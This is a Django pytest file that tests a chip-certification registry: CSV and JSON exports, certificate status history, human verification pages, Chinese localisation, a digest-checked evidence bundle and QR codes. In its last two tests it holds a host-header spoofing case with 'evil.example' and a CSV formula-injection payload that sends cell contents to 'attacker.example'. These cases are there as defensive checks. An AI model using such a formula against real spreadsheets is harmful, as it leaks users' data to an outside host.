"""The public registry like NIST's and MLPerf's (issue 17, item 4): the filtered list as CSV and
JSON, each certificate's status history on its page, and a human verification page that the
printed certificate's URL leads to."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from apps.certificates.services import certificate_reinstate, certificate_revoke, certificate_suspend

pytestmark = pytest.mark.django_db


def test_the_registry_exports_its_filtered_list_as_csv_with_a_bom_and_as_json(cast, certified):
    kept = certified()
    revoked = certified()
    certificate_revoke(certificate=revoked, reason="Fraud.", actor=cast.reviewer)
    client = Client()
    page = client.get("/registry/?status=all").content.decode()
    assert (
        'href="/registry/export.csv?status=all"' in page and 'href="/registry/export.json?status=all"' in page
    )

    response = client.get("/registry/export.csv")  # the page's default: active only
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:])))
    assert rows[0][:3] == ["Serial", "Chip SKU", "Chip name"]
    assert [r[0] for r in rows[1:]] == [kept.serial]
    assert rows[1][rows[0].index("Certificate page")] == f"http://testserver/certificates/{kept.serial}/"

    everything = client.get("/registry/export.json?status=all&ordering=serial").json()
    assert everything["count"] == 2
    assert [r["serial"] for r in everything["results"]] == sorted([kept.serial, revoked.serial])
    assert {r["status"] for r in everything["results"]} == {"active", "revoked"}
    assert everything["results"][0]["chip_sku"] == kept.subject_chip_sku
    assert client.get("/registry/export.json?status=revoked").json()["count"] == 1


def test_an_export_with_a_bad_filter_is_refused_and_other_formats_are_not_found():
    client = Client()
    assert client.get("/registry/export.csv?status=bogus").status_code == 400
    assert client.get("/registry/export.xml").status_code == 404


def test_the_csv_headers_are_in_chinese_for_a_chinese_reader(certified):
    certified()
    body = Client(HTTP_ACCEPT_LANGUAGE="zh-CN").get("/registry/export.csv").content.decode("utf-8")
    header = next(csv.reader(io.StringIO(body[1:])))
    assert header[0] == "证书编号" and "有效期至" in header


def test_a_suspended_then_reinstated_certificate_shows_both_changes_with_their_reasons(cast, certified):
    certificate = certified()
    certificate_suspend(certificate=certificate, reason="Surveillance run failed.", actor=cast.reviewer)
    certificate_reinstate(certificate=certificate, reason="Re-test passed.", actor=cast.reviewer)
    html = Client().get(f"/certificates/{certificate.serial}/").content.decode()
    history = html.split('id="history-h"', 1)[1].split("</section>", 1)[0]
    assert (
        history.index("issued") < history.index("Surveillance run failed.") < history.index("Re-test passed.")
    )
    assert "active → suspended" in history and "reinstated" in history
    assert "reviewer" not in history  # who decided is not public


def test_the_printed_certificate_carries_its_verification_url_which_opens_a_human_page(cast, certified):
    certificate = certified()
    client = Client()
    html = client.get(f"/certificates/{certificate.serial}/").content.decode()
    url = f"http://testserver/certificates/{certificate.serial}/verify/"
    assert url in html and f'href="/certificates/{certificate.serial}/verify/"' in html
    page = client.get(url)
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    text = page.content.decode()
    assert "Authentic and in force" in text and "What was checked" in text
    assert certificate.signing_key.key_id in text and "RFC 8785" in text
    certificate_revoke(certificate=certificate, reason="Fraud.", actor=cast.reviewer)
    revoked = client.get(url).content.decode()
    assert "Authentic, but not in force" in revoked and "Fraud." in revoked
    assert client.get("/certificates/NO-SUCH/verify/").status_code == 404


def test_the_certificate_and_verification_pages_are_in_chinese(certified):
    certificate = certified()
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-CN")
    html = client.get(f"/certificates/{certificate.serial}/").content.decode()
    for word in ("认证证书", "状态历史", "验证网址", "评定准则"):
        assert word in html, word
    assert "Status history" not in html and "Criteria</h2>" not in html
    verify = client.get(f"/certificates/{certificate.serial}/verify/").content.decode()
    assert "检查了什么" in verify and "What was checked" not in verify


def test_the_api_gives_the_status_history_too(cast, certified):
    certificate = certified()
    certificate_suspend(certificate=certificate, reason="Surveillance run failed.", actor=cast.reviewer)
    certificate_reinstate(certificate=certificate, reason="Re-test passed.", actor=cast.reviewer)
    response = Client().get(f"/api/v1/certificates/{certificate.serial}/history/")
    assert response.status_code == 200
    changes = response.json()
    assert [(c["from_status"], c["to_status"], c["reinstated"]) for c in changes] == [
        (None, "active", False),
        ("active", "suspended", False),
        ("suspended", "active", True),
    ]
    assert changes[1]["reason"] == "Surveillance run failed."
    assert Client().get("/api/v1/certificates/NO-SUCH/history/").status_code == 404


def _certified_with_files(cast, awaiting, media_root):
    """A certificate whose result documents are real files under MEDIA_ROOT, their digests signed."""
    import hashlib
    import json as json_module

    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from apps.certificates.services import review_approve
    from apps.runs.models import ResultDocument

    campaign = awaiting()
    for document in ResultDocument.objects.filter(job__campaign=campaign):
        content = json_module.dumps({"job": document.job_id, "suite": document.suite}).encode()
        default_storage.save(document.content.name, ContentFile(content))
        ResultDocument.objects.filter(pk=document.pk).update(sha256=hashlib.sha256(content).hexdigest())
    review_approve(campaign=campaign, reviewer=cast.reviewer, reason="Evidence complete.")
    campaign.refresh_from_db()
    return campaign.certificate


def _publish_evidence(certificate, public: bool = True):
    import copy

    from apps.runs.models import Program

    definition = copy.deepcopy(certificate.program.definition)
    definition["evidence_public"] = public
    Program.objects.filter(pk=certificate.program_id).update(definition=definition)


def test_the_evidence_bundle_holds_every_cited_document_checked_against_its_signed_digest(
    cast, awaiting, media_root
):
    import hashlib
    import json as json_module
    import zipfile

    certificate = _certified_with_files(cast, awaiting, media_root)
    client = Client()
    url = f"/certificates/{certificate.serial}/evidence.zip"
    assert client.get(url).status_code == 404  # the program keeps evidence private by default
    assert url not in client.get(f"/certificates/{certificate.serial}/").content.decode()
    _publish_evidence(certificate)
    assert url in client.get(f"/certificates/{certificate.serial}/").content.decode()
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    manifest = json_module.loads(archive.read("MANIFEST.json"))
    cited = {e["sha256"] for e in json_module.loads(certificate.payload_json)["evidence"]}
    assert {r["sha256"] for r in manifest["result_documents"]} == cited and manifest["missing"] == []
    for name, digest in manifest["files"].items():
        assert hashlib.sha256(archive.read(name)).hexdigest() == digest
    assert json_module.loads(archive.read(f"certificate/{certificate.serial}.json"))
    keys = json_module.loads(archive.read("certificate/certification-keys.json"))["keys"]
    assert certificate.signing_key.key_id in {k["key_id"] for k in keys}


def test_an_altered_result_document_is_refused_not_bundled(cast, awaiting, media_root):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from apps.runs.models import ResultDocument

    certificate = _certified_with_files(cast, awaiting, media_root)
    _publish_evidence(certificate)
    document = ResultDocument.objects.filter(job__campaign=certificate.campaign).first()
    default_storage.delete(document.content.name)
    default_storage.save(document.content.name, ContentFile(b'{"forged": true}'))
    response = Client().get(f"/certificates/{certificate.serial}/evidence.zip")
    assert response.status_code == 409 and "no longer matches" in response.content.decode()


def test_the_printed_qr_code_encodes_the_public_verification_url_not_the_requests_host(certified, settings):
    import segno

    certificate = certified()
    settings.CERT_PUBLIC_URL = "https://cert.example.gov.cn/"
    settings.ALLOWED_HOSTS = ["*"]
    html = Client().get(f"/certificates/{certificate.serial}/", HTTP_HOST="evil.example").content.decode()
    url = f"https://cert.example.gov.cn/certificates/{certificate.serial}/verify/"
    assert url in html and "evil.example" not in html
    assert segno.make(url, error="m").svg_inline(scale=3, dark="#000") in html
    forged = segno.make(f"http://evil.example/certificates/{certificate.serial}/verify/", error="m")
    assert forged.svg_inline(scale=3, dark="#000") not in html


def test_a_vendors_formula_in_a_chip_name_reaches_the_csv_as_text(certified):
    from apps.certificates.models import Certificate

    certificate = certified()
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Details")'
    Certificate.objects.filter(pk=certificate.pk).update(subject_chip_name=formula)
    body = Client().get("/registry/export.csv").content.decode("utf-8").lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
